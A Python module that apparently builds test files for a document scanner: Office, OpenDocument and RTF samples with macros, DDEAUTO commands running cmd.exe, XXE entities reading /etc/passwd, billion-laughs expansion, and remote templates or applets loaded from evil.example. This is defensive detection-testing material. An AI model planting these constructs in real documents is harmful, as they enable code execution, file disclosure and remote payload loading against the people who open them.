"""Documents of the Office formats with something inside that must not come in."""

import struct
import zlib

from . import compound
from .office import (
    HEAD,
    macros,
    ole_native,
    open_document,
    open_xml,
    record,
    relations,
    word_stream,
    workbook,
)
from .oldarchives import rar5
from .payload import EICAR, GZIPPED, LONG, TEXT, ZIPPED, plain_zip, raw_deflate
from .zipfield import Member, build

ACTIVE = ("active-content", "embedded-program", "infected", "macro", "suspicious")
BROKEN = ("damaged", "readers-disagree", "infected", "not-opened")
ADDRESS = "http://evil.example/a"


def cases(corpus):
    members(corpus)
    objects(corpus)
    open_xml_active(corpus)
    links(corpus)
    encrypted(corpus)
    old_documents(corpus)
    old_active(corpus)
    open_documents(corpus)


def members(corpus):
    for kind in ("docx", "xlsx", "pptx"):
        shown = "报告." + kind
        corpus.add(
            kind + " with an infected part",
            shown,
            open_xml(kind, [("word/media/image1.png", EICAR)]),
            "infected",
        )
        corpus.add(
            kind + " with an infected unknown part",
            shown,
            open_xml(kind, [("custom/a.bin", LONG)]),
            "infected",
        )
        corpus.add(
            kind + " with a zip for a picture",
            shown,
            open_xml(kind, [("word/media/image1.png", ZIPPED)]),
            "infected",
        )
        corpus.add(
            kind + " with a gzip for a picture",
            shown,
            open_xml(kind, [("word/media/image1.png", GZIPPED)]),
            "infected",
            "not-opened",
        )
        corpus.add(
            kind + " with a RAR for a picture",
            shown,
            open_xml(kind, [("word/media/image1.png", rar5("a.zip", ZIPPED))]),
            "infected",
            "not-opened",
        )
        corpus.add(
            kind + " with a cut end",
            shown,
            open_xml(kind, [("word/media/image1.png", LONG)])[:-80],
            *BROKEN
        )
        corpus.add(
            "silent: %s cut before its directory" % kind, shown, cut_before_directory(kind), *BROKEN
        )
        corpus.add(
            "silent: %s of billion laughs" % kind,
            shown,
            laughs(kind),
            "suspicious",
            "active-content",
            "damaged",
            "size-limit",
            "infected",
        )
        corpus.add(
            kind + " with an entity that reads a file",
            shown,
            outside_entity(kind),
            "suspicious",
            "active-content",
            "damaged",
        )
        corpus.add(
            kind + " with a document type in UTF-16",
            shown,
            wide_entity(kind),
            "suspicious",
            "active-content",
            "damaged",
        )
        corpus.add(
            "silent: %s encrypted" % kind,
            shown,
            compound.build(
                {
                    "EncryptionInfo": b"\4\0\4\0\x40\0\0\0" + TEXT,
                    "EncryptedPackage": bytes(range(256)) * 30,
                    "\6DataSpaces": {"Version": bytes(76)},
                }
            ),
            "encrypted-document",
        )
        corpus.add(
            kind + " in a zip, infected",
            "材料.zip",
            plain_zip([("a." + kind, open_xml(kind, [("a/b.txt", LONG)]))]),
            "infected",
        )
        corpus.add(
            kind + " with macros in a zip",
            "材料.zip",
            plain_zip([("a." + kind, with_macros(kind))]),
            "macro",
            "infected",
            "embedded-program",
        )


def cut_before_directory(kind):
    data = open_xml(kind, [("word/media/image1.png", LONG)])
    return data[: data.index(b"PK\1\2")]


def laughs(kind):
    lines = "".join('<!ENTITY l%d "%s">' % (n, "&l%d;" % (n - 1) * 10) for n in range(1, 10))
    text = HEAD + '<!DOCTYPE a [<!ENTITY l0 "lol">%s]><a>&l9;</a>' % lines
    return open_xml(kind, [("customXml/item1.xml", text.encode())])


def outside_entity(kind):
    text = HEAD + '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
    return open_xml(kind, [("customXml/item1.xml", text.encode())])


def wide_entity(kind):
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
    return open_xml(kind, [("customXml/item1.xml", b"\xff\xfe" + text.encode("utf-16-le"))])


FOLDER = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}


def with_macros(kind, code=None):
    project = compound.build(macros(code) if code else macros())
    return open_xml(
        kind,
        [(FOLDER[kind] + "/vbaProject.bin", project)],
        links=[
            (
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin",
                False,
            )
        ],
    )


def objects(corpus):
    package = compound.build({"\1Ole10Native": ole_native("a.zip", ZIPPED), "\3ObjInfo": bytes(6)})
    clear = compound.build({"\1Ole10Native": ole_native("a.exe", EICAR)})
    for kind in ("docx", "xlsx", "pptx"):
        place = FOLDER[kind] + "/embeddings/"
        shown = "报告." + kind
        corpus.add(
            "silent: %s with an OLE package" % kind,
            shown,
            open_xml(kind, [(place + "oleObject1.bin", package)]),
            *ACTIVE
        )
        corpus.add(
            kind + " with an OLE package in clear",
            shown,
            open_xml(kind, [(place + "oleObject1.bin", clear)]),
            *ACTIVE
        )
        corpus.add(
            kind + " with an OLE package under another name",
            shown,
            open_xml(kind, [(FOLDER[kind] + "/media/image1.png", package)]),
            *ACTIVE,
            "not-opened"
        )
        for name, data in [
            ("a.exe", b"MZ" + bytes(200)),
            ("a.js", TEXT),
            ("a.bin", ZIPPED),
            ("a.rar", rar5("a.zip", ZIPPED)),
        ]:
            corpus.add(
                "%s that embeds %s" % (kind, name),
                shown,
                open_xml(kind, [(place + name, data)]),
                *ACTIVE,
                "not-opened"
            )
    inner = open_xml("xlsx", [("xl/a.bin", LONG)])
    corpus.add(
        "docx that embeds an infected xlsx",
        "报告.docx",
        open_xml("docx", [("word/embeddings/a.xlsx", inner)]),
        "infected",
    )
    corpus.add(
        "docx that embeds an xlsx with macros",
        "报告.docx",
        open_xml("docx", [("word/embeddings/a.xlsx", with_macros("xlsx"))]),
        "macro",
        "infected",
    )
    deep = inner
    for depth in range(4):
        deep = open_xml("docx", [("word/embeddings/%d.docx" % depth, deep)])
    corpus.add("docx in docx in docx, infected", "报告.docx", deep, "infected")


def open_xml_active(corpus):
    for kind, extension in [("docx", "docm"), ("xlsx", "xlsm"), ("pptx", "pptm")]:
        code = with_macros(kind)
        corpus.add(kind + " with macros", "报告." + kind, code, "macro", "infected")
        corpus.add(extension, "报告." + extension, code, "macro", "infected")
        moved = open_xml(
            kind,
            [("custom/settings.dat", compound.build(macros()))],
            links=[
                (
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                    "/custom/settings.dat",
                    False,
                )
            ],
        )
        corpus.add(
            kind + " with macros under another name",
            "报告." + kind,
            moved,
            "macro",
            "infected",
            "active-content",
            "not-opened",
        )
        bait = with_macros(
            kind, b'Sub a()\r\nx = "' + EICAR.replace(b'"', b"") + b'"\r\nEnd Sub\r\n'
        )
        corpus.add(
            kind + " with the payload in macro source", "报告." + kind, bait, "macro", "infected"
        )
        place = FOLDER[kind] + "/activeX/"
        control = [
            (
                place + "activeX1.xml",
                b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>",
            ),
            (place + "activeX1.bin", compound.build({"contents": TEXT})),
        ]
        corpus.add(kind + " with ActiveX", "报告." + kind, open_xml(kind, control), "active-content")
        corpus.add(
            kind + " with custom ribbon",
            "报告." + kind,
            open_xml(
                kind,
                [
                    (
                        "customUI/customUI14.xml",
                        b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoOpen"/>',
                    )
                ],
            ),
            "active-content",
            "macro",
        ) if kind == "docx" else None
    sheet = (
        HEAD
        + '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><f>EXEC("calc")</f></xm:macrosheet>'
    )
    corpus.add(
        "xlsx with a macro sheet",
        "表.xlsx",
        open_xml("xlsx", [("xl/macrosheets/sheet1.xml", sheet.encode())]),
        "macro",
    )
    corpus.add(
        "xlsx with a macro sheet elsewhere",
        "表.xlsx",
        open_xml(
            "xlsx",
            [("xl/worksheets/sheet1.xml", sheet.encode())],
            links=[
                (
                    "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                    "worksheets/sheet1.xml",
                    False,
                )
            ],
        ),
        "macro",
    )
    corpus.add(
        "xlsx with a dialogue sheet",
        "表.xlsx",
        open_xml(
            "xlsx",
            [("xl/dialogsheets/sheet1.xml", b"<dialogsheet/>")],
            links=[("dialogsheet", "dialogsheets/sheet1.xml", False)],
        ),
        "macro",
        "active-content",
    )
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    corpus.add("docx with DDEAUTO", "报告.docx", open_xml("docx", body=field), "active-content")
    split = "".join(
        "<w:r><w:instrText>%s</w:instrText></w:r>" % part
        for part in ("DD", "EAU", "TO", ' cmd "/k calc"')
    )
    corpus.add(
        "docx with DDEAUTO in pieces",
        "报告.docx",
        open_xml("docx", body="<w:p>%s</w:p>" % split),
        "active-content",
    )
    plain = '<w:p><w:fldSimple w:instr=" DDE cmd &quot;/k calc&quot; "/></w:p>'
    corpus.add(
        "docx with DDE in a simple field", "报告.docx", open_xml("docx", body=plain), "active-content"
    )
    spelled = "<w:p><w:r><w:instrText>&#68;&#68;&#69;AUTO cmd</w:instrText></w:r></w:p>"
    corpus.add(
        "docx with DDEAUTO in character references",
        "报告.docx",
        open_xml("docx", body=spelled),
        "active-content",
        "suspicious",
    )
    corpus.add(
        "xlsx with a DDE link",
        "表.xlsx",
        open_xml(
            "xlsx",
            [
                (
                    "xl/externalLinks/externalLink1.xml",
                    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
                )
            ],
        ),
        "active-content",
    )
    click = (
        '<p:sld xmlns:p="a" xmlns:a="b"><a:hlinkMouseOver action="ppaction://program"/></p:sld>'
    ).encode()
    corpus.add(
        "pptx with an action that starts a program",
        "演示.pptx",
        open_xml("pptx", [("ppt/slides/slide1.xml", click)]),
        "active-content",
    )
    macro = (
        '<p:sld xmlns:p="a" xmlns:a="b"><a:hlinkClick action="ppaction://macro?name=a"/></p:sld>'
    ).encode()
    corpus.add(
        "pptx with an action that starts a macro",
        "演示.pptx",
        open_xml("pptx", [("ppt/slides/slide1.xml", macro)]),
        "active-content",
        "macro",
    )


def links(corpus):
    outside = [
        ("attachedTemplate", "docx"),
        ("oleObject", "docx"),
        ("frame", "docx"),
        ("subDocument", "docx"),
        ("oleObject", "xlsx"),
        ("externalLinkPath", "xlsx"),
        ("oleObject", "pptx"),
        ("control", "docx"),
        ("aFChunk", "docx"),
    ]
    for kind, document in outside:
        for name, target in [
            ("http", ADDRESS),
            ("share", "\\\\evil.example\\a"),
            ("file", "file:///\\\\evil.example\\a"),
            ("mhtml", "mhtml:http://evil.example/a!x-usc:http://evil.example/b"),
        ]:
            if kind == "externalLinkPath" and name != "mhtml":
                continue
            data = open_xml(document, links=[(kind, target, True)])
            corpus.add(
                "%s whose %s is elsewhere, by %s" % (document, kind, name),
                "报告." + document,
                data,
                "active-content",
                "suspicious",
            )
    single = open_xml(
        "docx",
        replace={
            "word/_rels/settings.xml.rels": relations(("attachedTemplate", ADDRESS, True)).replace(
                b'"', b"'"
            )
        },
    )
    corpus.add(
        "docx whose remote template stands in single quotes",
        "报告.docx",
        single,
        "active-content",
        "suspicious",
    )
    spaced = (
        relations(("attachedTemplate", ADDRESS, True))
        .replace(b'Target="', b'Target = "')
        .replace(b'Mode="', b'Mode\n=\n"')
    )
    corpus.add(
        "docx whose remote template has spaces in its attributes",
        "报告.docx",
        open_xml("docx", [("word/_rels/settings.xml.rels", spaced)]),
        "active-content",
        "suspicious",
    )
    spelled = relations(("attachedTemplate", "&#104;ttp://evil.example/a", True))
    corpus.add(
        "docx whose remote template is spelled in references",
        "报告.docx",
        open_xml("docx", [("word/_rels/settings.xml.rels", spelled)]),
        "active-content",
        "suspicious",
    )
    wide = (
        relations(("attachedTemplate", ADDRESS, True))
        .decode()
        .replace("UTF-8", "UTF-16")
        .encode("utf-16")
    )
    corpus.add(
        "docx whose remote template is in UTF-16",
        "报告.docx",
        open_xml("docx", [("word/_rels/settings.xml.rels", wide)]),
        "active-content",
        "suspicious",
        "damaged",
    )
    chunk = open_xml(
        "docx",
        [("word/chunk.html", b"<html><script>alert(1)</script></html>")],
        links=[("aFChunk", "chunk.html", False)],
    )
    corpus.add("docx with a chunk of HTML", "报告.docx", chunk, "active-content", "embedded-program")
    prefixed = (
        relations(("attachedTemplate", ADDRESS, True))
        .replace(b"<Relationship ", b"<r:Relationship ")
        .replace(b"xmlns=", b"xmlns:r=")
        .replace(b"Relationships", b"r:Relationships")
    )
    corpus.add(
        "docx whose remote template has a prefix",
        "报告.docx",
        open_xml("docx", [("word/_rels/settings.xml.rels", prefixed)]),
        "active-content",
        "suspicious",
        "damaged",
    )


def encrypted(corpus):
    corpus.add(
        "encrypted docx in a zip",
        "材料.zip",
        plain_zip(
            [("a.docx", compound.build({"EncryptionInfo": TEXT, "EncryptedPackage": TEXT * 9}))]
        ),
        "encrypted-document",
    )
    corpus.add(
        "encrypted old document",
        "报告.doc",
        compound.build({"WordDocument": word_stream(True), "1Table": TEXT}),
        "encrypted-document",
    )
    corpus.add(
        "encrypted old sheet",
        "表.xls",
        compound.build({"Workbook": workbook(record(0x2F, bytes(54)))}),
        "encrypted-document",
    )
    corpus.add(
        "obfuscated old sheet",
        "表.xls",
        compound.build({"Workbook": workbook(record(0x2F, bytes(6)))}),
        "encrypted-document",
    )
    user = struct.pack("<HHIIIIH", 0, 0x0FF6, 20, 20, 0xF3D1C4DF, 0, 0) + bytes(50)
    corpus.add(
        "encrypted old show",
        "演示.ppt",
        compound.build(
            {"Current User": user, "PowerPoint Document": TEXT * 90, "EncryptedSummary": TEXT}
        ),
        "encrypted-document",
    )
    entry = '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data manifest:checksum="a"/></manifest:file-entry>'
    for kind, extension in [("text", "odt"), ("spreadsheet", "ods"), ("presentation", "odp")]:
        corpus.add(
            "encrypted " + extension,
            "报告." + extension,
            open_document(kind, manifest=entry),
            "encrypted-document",
        )
    package = open_document(
        "text",
        [("encrypted-package", bytes(range(256)) * 9)],
        manifest=entry.replace("content.xml", "encrypted-package"),
    )
    corpus.add("encrypted odt as one package", "报告.odt", package, "encrypted-document")
    corpus.add(
        "docx protected by rights",
        "报告.docx",
        compound.build({"\6DataSpaces": {"DataSpaceMap": TEXT}, "\tDRMContent": TEXT * 9}),
        "encrypted-document",
    )


def old_documents(corpus):
    corpus.add(
        "doc with an infected stream",
        "报告.doc",
        compound.build({"WordDocument": word_stream(), "Data": LONG * 2}),
        "infected",
    )
    corpus.add(
        "doc with a zip for a stream",
        "报告.doc",
        compound.build({"WordDocument": word_stream(), "Data": ZIPPED}),
        "infected",
        "active-content",
    )
    corpus.add(
        "doc with a zip in a large stream",
        "报告.doc",
        compound.build(
            {
                "WordDocument": word_stream(),
                "Data": plain_zip([("a", EICAR), ("b", bytes(9000))], 0),
            }
        ),
        "infected",
    )
    packed = {
        "WordDocument": word_stream(),
        "ObjectPool": {"_1": {"\1Ole10Native": ole_native("a.zip", ZIPPED)}},
    }
    corpus.add("silent: doc with Ole10Native", "报告.doc", compound.build(packed), *ACTIVE)
    corpus.add(
        "silent: xls with Ole10Native",
        "表.xls",
        compound.build(
            {"Workbook": workbook(), "MBD1": {"\1Ole10Native": ole_native("a.zip", ZIPPED)}}
        ),
        *ACTIVE
    )
    chained = {
        "WordDocument": word_stream(),
        "ObjectPool": {"_1": {"Package": open_xml("docx", [("a/b.txt", LONG)])}},
    }
    corpus.add("doc with an infected docx package", "报告.doc", compound.build(chained), *ACTIVE)
    broken = compound.build({"WordDocument": word_stream() + LONG * 3}, break_fat=True)
    corpus.add("silent: doc with a broken FAT", "报告.doc", broken, *BROKEN)
    whole = compound.build({"WordDocument": word_stream(), "Data": raw_deflate(LONG) * 200})
    for share in (20, 50, 80):
        corpus.add(
            "doc cut at %d %%" % share,
            "报告.doc",
            whole[: len(whole) * share // 100],
            *BROKEN,
            "mismatch",
            "type-unknown",
            "type"
        )
    for name, at, value in [
        ("sector size", 30, b"\x20\0"),
        ("directory sector", 48, b"\xf0\xff\xff\x7f"),
        ("count of FAT sectors", 44, b"\xff\xff\xff\x7f"),
        ("mini sector size", 32, b"\x1f\0"),
        ("first FAT sector", 76, b"\xff\xff\xff\x7f"),
    ]:
        lie = bytearray(
            compound.build({"WordDocument": word_stream(), "Data": GZIPPED + bytes(5000)})
        )
        lie[at : at + len(value)] = value
        corpus.add(
            "doc with a lying " + name,
            "报告.doc",
            bytes(lie),
            *BROKEN,
            "mismatch",
            "type-unknown",
            "type"
        )
    looped = bytearray(whole)
    at = 512 + struct.unpack_from("<I", whole, 76)[0] * 512
    looped[at : at + 4] = struct.pack("<I", 0)
    corpus.add("doc with a chain that loops", "报告.doc", bytes(looped), *BROKEN)
    corpus.add(
        "doc with bytes behind its last sector",
        "报告.doc",
        compound.build({"WordDocument": word_stream()}) + ZIPPED + bytes(900),
        *BROKEN,
        "polyglot"
    )
    orphan = bytearray(
        compound.build({"WordDocument": word_stream(), "Zzzzz": ZIPPED + bytes(8000)})
    )
    at = orphan.index("Zzzzz".encode("utf-16-le"))
    orphan[at + 66] = 0
    corpus.add(
        "doc with a stream that the directory forgot", "报告.doc", bytes(orphan), *BROKEN, "polyglot"
    )
    corpus.add(
        "msi by its streams",
        "a.msi",
        compound.build({"\u4840\u3b3f\u43f2\u4438\u45b1": TEXT * 9, "Binary.a": GZIPPED}),
        "type",
        "embedded-program",
        "infected",
        "not-opened",
        "mismatch",
        "active-content",
        "type-unknown",
    )
    mail = {
        "__properties_version1.0": bytes(32),
        "__attach_version1.0_#00000000": {"__substg1.0_37010102": ZIPPED},
    }
    corpus.add(
        "msg with an attachment",
        "信.msg",
        compound.build(mail),
        "infected",
        "type",
        "not-opened",
        "active-content",
        "mismatch",
    )
    corpus.add(
        "msg with an attachment in a zip",
        "材料.zip",
        plain_zip([("a.msg", compound.build(mail))]),
        "infected",
        "not-opened",
        "active-content",
    )


def old_active(corpus):
    corpus.add(
        "doc with macros",
        "报告.doc",
        compound.build({"WordDocument": word_stream(), "Macros": macros()}),
        "macro",
        "infected",
    )
    corpus.add(
        "xls with macros",
        "表.xls",
        compound.build({"Workbook": workbook(), "_VBA_PROJECT_CUR": macros()}),
        "macro",
        "infected",
    )
    corpus.add(
        "xls with an XLM macro sheet",
        "表.xls",
        compound.build({"Workbook": workbook(sheet=b"\0\1")}),
        "macro",
    )
    corpus.add(
        "xls with a very hidden XLM macro sheet",
        "表.xls",
        compound.build({"Workbook": workbook(sheet=b"\2\1")}),
        "macro",
    )
    corpus.add(
        "xls with a VBA module sheet",
        "表.xls",
        compound.build({"Workbook": workbook(sheet=b"\0\6")}),
        "macro",
    )
    corpus.add(
        "xls of BIFF5 with an XLM macro sheet",
        "表.xls",
        compound.build({"Book": workbook(sheet=b"\0\1").replace(b"\0\6\5\0", b"\0\5\5\0", 1)}),
        "macro",
        "damaged",
        "mismatch",
    )
    dde = record(0x1AE, struct.pack("<HH", 0, 7) + b"\0cmd\3/c")
    corpus.add(
        "xls with a DDE link",
        "表.xls",
        compound.build({"Workbook": workbook(dde)}),
        "active-content",
        "macro",
    )
    project = compound.build(macros())
    squeezed = struct.pack("<I", len(project)) + zlib.compress(project)
    atom = struct.pack("<HHI", 0x10, 0x1011, len(squeezed)) + squeezed
    corpus.add(
        "ppt with macros in a packed object",
        "演示.ppt",
        compound.build({"Current User": bytes(60), "PowerPoint Document": atom + TEXT * 90}),
        "macro",
        "infected",
        "active-content",
        "not-opened",
    )
    object_file = compound.build({"\1Ole10Native": ole_native("a.zip", ZIPPED)})
    squeezed = struct.pack("<I", len(object_file)) + zlib.compress(object_file)
    atom = struct.pack("<HHI", 0x10, 0x1011, len(squeezed)) + squeezed
    corpus.add(
        "ppt with a package in a packed object",
        "演示.ppt",
        compound.build({"Current User": bytes(60), "PowerPoint Document": atom + TEXT * 90}),
        *ACTIVE,
        "not-opened"
    )
    field = b'\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x14 \x15'
    corpus.add(
        "doc with DDEAUTO",
        "报告.doc",
        compound.build({"WordDocument": word_stream() + field + bytes(4096)}),
        "active-content",
        "suspicious",
    )
    wide = field.decode().encode("utf-16-le")
    corpus.add(
        "doc with DDEAUTO in UTF-16",
        "报告.doc",
        compound.build({"WordDocument": word_stream() + wide + bytes(4096)}),
        "active-content",
        "suspicious",
    )
    objects = {
        "WordDocument": word_stream(),
        "ObjectPool": {
            "_1": {
                "\3OCXNAME": "Shell".encode("utf-16-le"),
                "contents": TEXT,
                "\3ObjInfo": bytes(6),
            }
        },
    }
    corpus.add(
        "doc with ActiveX", "报告.doc", compound.build(objects), "active-content", "suspicious"
    )
    equation = {
        "WordDocument": word_stream(),
        "ObjectPool": {"_1": {"Equation Native": bytes(28) + b"\3\1\1\3\n\n\x08" + b"A" * 200}},
    }
    corpus.add(
        "doc with an equation that overflows its editor",
        "报告.doc",
        compound.build(equation),
        "active-content",
        "suspicious",
        "infected",
    )
    for name, data in [
        ("in clear", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}"),
        ("with spaces", b"{\\rtf1{\\object\\objemb{\\*\\objdata 01 05 00\r\n00 02 00 00 00}}}"),
        ("that updates", b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}"),
        ("without its head", b"{\\rt{\\object\\objemb{\\*\\objdata 0105}}}"),
        (
            "with the payload in hex",
            b"{\\rtf1{\\object{\\*\\objdata " + ole_native("a.zip", ZIPPED).hex().encode() + b"}}}",
        ),
        ("DDE field", b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}}}'),
        ("remote template", b"{\\rtf1{\\*\\template http://evil.example/a.dotm}}"),
    ]:
        corpus.add("silent: RTF object " + name, "报告.rtf", data, *ACTIVE, "type")
        corpus.add("RTF object named doc, " + name, "报告.doc", data, *ACTIVE, "type")
        corpus.add(
            "RTF object in a zip, " + name,
            "材料.zip",
            plain_zip([("a.doc", data)]),
            *ACTIVE,
            "not-opened"
        )
    binary = b"{\\rtf1{\\object{\\*\\objdata\\bin%d " % len(GZIPPED) + GZIPPED + b"}}}"
    corpus.add("RTF object in binary", "报告.rtf", binary, *ACTIVE, "type")


def open_documents(corpus):
    for kind, extension in [("text", "odt"), ("spreadsheet", "ods"), ("presentation", "odp")]:
        shown = "报告." + extension
        corpus.add(
            extension + " with an infected part",
            shown,
            open_document(kind, [("Pictures/a.png", EICAR)]),
            "infected",
        )
        corpus.add(
            extension + " with a zip for a picture",
            shown,
            open_document(kind, [("Pictures/a.png", ZIPPED)]),
            "infected",
        )
        corpus.add(
            extension + " with Basic macros",
            shown,
            open_document(
                kind,
                [
                    ("Basic/Standard/Module1.xml", b'<script:module>Shell("calc")</script:module>'),
                    ("Basic/script-lc.xml", b"<a/>"),
                ],
            ),
            "macro",
        )
        corpus.add(
            extension + " with Python macros",
            shown,
            open_document(kind, [("Scripts/python/a.py", b"import os\n")]),
            "macro",
            "embedded-program",
        )
        event = '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$b?language=Python&amp;location=user"/>'
        corpus.add(
            extension + " with an event that runs a script",
            shown,
            open_document(kind, body=event),
            "macro",
            "active-content",
        )
        corpus.add(
            extension + " with an OLE object",
            shown,
            open_document(
                kind, [("Object 1", compound.build({"\1Ole10Native": ole_native("a.zip", ZIPPED)}))]
            ),
            *ACTIVE
        )
    frame = '<draw:floating-frame xlink:href="http://evil.example/a"/>'
    corpus.add(
        "odt with a frame that is elsewhere",
        "报告.odt",
        open_document(body=frame),
        "active-content",
        "suspicious",
    )
    applet = '<draw:applet xlink:href="http://evil.example/a.jar" draw:code="A.class"/>'
    corpus.add(
        "odt with an applet", "报告.odt", open_document(body=applet), "active-content", "suspicious"
    )
    dde = '<text:dde-connection-decl office:dde-application="cmd" office:dde-topic="/c calc"/>'
    corpus.add("odt with DDE", "报告.odt", open_document(body=dde), "active-content", "suspicious")
    late = build(
        [
            Member("content.xml", b"<a/>"),
            Member("mimetype", b"application/vnd.oasis.opendocument.text", 0),
            Member("Basic/Standard/M.xml", b"<a/>"),
        ]
    )
    corpus.add(
        "odt whose mimetype stands second, with macros",
        "报告.odt",
        late,
        "macro",
        "mismatch",
        "damaged",
    )
    laugh = HEAD + '<!DOCTYPE a [<!ENTITY l0 "lol"><!ENTITY l1 "&l0;&l0;">]><a>&l1;</a>'
    corpus.add(
        "odt with entities",
        "报告.odt",
        open_document(parts=[("settings.xml", laugh.encode())]),
        "suspicious",
        "active-content",
        "damaged",
    )
